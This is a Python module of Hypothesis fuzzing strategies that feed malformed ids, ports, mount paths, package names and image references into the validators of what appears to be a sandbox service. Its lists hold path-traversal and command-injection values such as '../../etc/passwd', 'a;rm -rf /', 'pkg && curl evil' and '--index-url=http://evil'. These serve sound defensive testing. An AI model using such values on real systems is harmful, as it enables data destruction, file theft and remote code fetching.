"""Hypothesis strategies of bad input: ids, names, sizes, ports, paths, packages, references.

Each strategy mixes a curated list of known-nasty values (traversal, absolute paths, NUL
bytes, very long strings, shell metacharacters, look-alike unicode, wrong types) with
generated ones, so every run tries the classics and something new.
"""

from __future__ import annotations

import re
from typing import Any

from hypothesis import strategies as st

NASTY_TEXT = [
    "",
    " ",
    "\t",
    "\n",
    ".",
    "..",
    "...",
    "../x",
    "../../etc/passwd",
    "a/../../b",
    "a/./b",
    "/",
    "//",
    "/etc/passwd",
    "/proc/self/environ",
    "./x",
    "x/..",
    "a\x00b",
    "\x00",
    "%2e%2e",
    "%2e%2e%2fetc",
    "..%2f..%2fetc",
    "a\\..\\b",
    "C:\\Windows",
    "~root",
    "$(id)",
    "`id`",
    "a;rm -rf /",
    "a|b",
    "a b",
    "*",
    "?",
    "#frag",
    "a%00b",
    "\u202eevil",
    "\ufeffbom",
    "\u00e9t\u00e9",
    "\U0001f642",
    "-rf",
    "--help",
    "x" * 64,
    "x" * 129,
    "x" * 1025,
    "x" * 5000,
    "a/" * 300,
]

_segments = st.sampled_from(["..", ".", "", "a", "b c", "\x00", "x" * 100, "%2e%2e", "\\", "é"])

text: st.SearchStrategy[str] = st.one_of(
    st.sampled_from(NASTY_TEXT),
    st.text(max_size=80),
    st.text(alphabet=st.characters(codec="ascii"), min_size=1, max_size=300),
    st.lists(_segments, min_size=1, max_size=8).map("/".join),
    st.lists(_segments, min_size=1, max_size=8).map(lambda p: "/" + "/".join(p)),
)
"""Any bad or odd string."""

not_a_string: st.SearchStrategy[Any] = st.one_of(
    st.none(),
    st.integers(),
    st.floats(allow_nan=True),
    st.booleans(),
    st.binary(max_size=8),
    st.lists(st.integers(), max_size=2),
)

_ID = re.compile(r"^[A-Za-z0-9][A-Za-z0-9_.-]{0,127}$")

bad_ids: st.SearchStrategy[str] = text.filter(lambda s: not _ID.match(s))
"""Strings that are not well-formed resource ids."""

ids: st.SearchStrategy[str] = text
"""Strings given as ids: ill-formed ones, and well-formed ones that name nothing."""

_NAME = re.compile(r"^[A-Za-z0-9][A-Za-z0-9_.-]{0,62}$")

bad_sandbox_names: st.SearchStrategy[str] = text.filter(lambda s: not _NAME.match(s))

sizes: st.SearchStrategy[Any] = st.one_of(
    st.sampled_from([0, -1, -(2**63), 2**63, 2**31, 10**12, True, False]),
    st.integers(max_value=0),
    st.integers(min_value=300_000),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from(["1", "one", "", "512MiB", None, [], {}]),
)
"""Sizes and counts out of every range (vCPUs, MiB, seconds): none of them is valid."""


def out_of(low: int, high: int) -> st.SearchStrategy[Any]:
    """Values that are not an integer from ``low`` to ``high``."""
    return st.one_of(
        st.integers(max_value=low - 1),
        st.integers(min_value=high + 1),
        st.sampled_from([low - 1, high + 1, 2**63, -(2**63), 1.5, float("nan"), "x", None]),
        st.just(str(high + 1)),
        st.floats(allow_nan=True, allow_infinity=True).filter(lambda f: not f.is_integer()),
    )


bad_ports: st.SearchStrategy[Any] = out_of(1, 65535)

port_lists: st.SearchStrategy[list[Any]] = st.lists(
    st.one_of(bad_ports, st.integers(1, 65535)), min_size=1, max_size=6
).filter(
    lambda ps: (
        any(isinstance(p, bool) or not isinstance(p, int) or not 1 <= p <= 65535 for p in ps)
        or len(set(map(repr, ps))) != len(ps)
    )
)
"""Port lists with at least one bad port, or a repeated one."""

guest_paths: st.SearchStrategy[str] = st.one_of(
    text,
    st.sampled_from(
        [
            "/mnt/archil",
            "/mnt/archil/x",
            "/proc",
            "/proc/1",
            "/sys/fs",
            "/dev/sda",
            "/mnt/../etc",
            "/data/./x",
            "relative/path",
            "/data\x00",
            "/" + "x" * 5000,
        ]
    ),
)
"""Mount paths: traversal, relative, reserved, NUL, very long."""

subdirectories: st.SearchStrategy[str] = st.one_of(
    text, st.sampled_from(["/abs", "../up", "a/../../b", "a/./b", "a\\b", "a\x00"])
)

object_keys: st.SearchStrategy[str] = st.one_of(
    text,
    st.sampled_from(
        [
            "../outside.txt",
            "../../outside.txt",
            "a/../../outside.txt",
            "/absolute.txt",
            "./x",
            "x/./y",
            "x/",
            "x\x00y",
            "é" * 600,
            "k" * 1025,
            ".archil/../../x",
        ]
    ),
)
"""Object keys: traversal out of the disk, absolute, NUL, folder names, too long, odd."""

package_names: st.SearchStrategy[str] = st.one_of(
    text,
    st.sampled_from(
        [
            "numpy; rm -rf /",
            "-e .",
            "--index-url=http://evil",
            "pkg\nRUN curl evil",
            "pkg && curl evil",
            "Pkg_Upper",
            "-",
            "a" * 300,
            "libc6:amd64",
            "pkg=1.0",
        ]
    ),
)

image_references: st.SearchStrategy[str] = st.one_of(
    text,
    st.sampled_from(
        [
            "UPPER/case:1",
            "a::b",
            "repo@sha256:12",
            "repo@md5:abc",
            "repo:tag:tag",
            ":tag",
            "@sha256:" + "a" * 64,
            "repo:" + "t" * 129,
            "python:3.11 ; rm",
            "-python",
            "http://registry/x",
            "x/" * 100,
        ]
    ),
).filter(lambda s: not _looks_like_a_reference(s))
"""Strings that are not OCI image references."""


_REF = re.compile(
    r"^[a-z0-9]+(?:(?:\.|_|__|-+)[a-z0-9]+)*(?::[0-9]+)?"
    r"(?:/[a-z0-9]+(?:(?:\.|_|__|-+)[a-z0-9]+)*)*"
    r"(?::[A-Za-z0-9_][A-Za-z0-9_.-]{0,127})?(?:@sha256:[a-f0-9]{64})?$"
)


def _looks_like_a_reference(s: str) -> bool:
    return bool(_REF.match(s))


env_names: st.SearchStrategy[str] = st.one_of(
    st.sampled_from(["", "1BAD", "A-B", "A B", "A=B", "A\x00", "é", "$X", "a.b"]),
    st.text(min_size=1, max_size=20).filter(lambda s: not re.match(r"^[A-Za-z_][A-Za-z0-9_]*$", s)),
)

mount_specs: st.SearchStrategy[dict[str, Any]] = st.fixed_dictionaries(
    {},
    optional={
        "disk_id": st.one_of(bad_ids, not_a_string),
        "path": guest_paths,
        "subdirectory": subdirectories,
        "read_only": st.one_of(st.booleans(), st.sampled_from(["yes", 2, None])),
        "conditional": st.one_of(st.booleans(), st.sampled_from(["no", -1])),
        "queue_ms": st.one_of(st.integers(), st.sampled_from(["x", 1.5])),
        "env": text,
        "nonsense": text,
    },
)
"""Mount specs as dicts: missing or ill-formed disk ids, bad paths, unknown keys."""
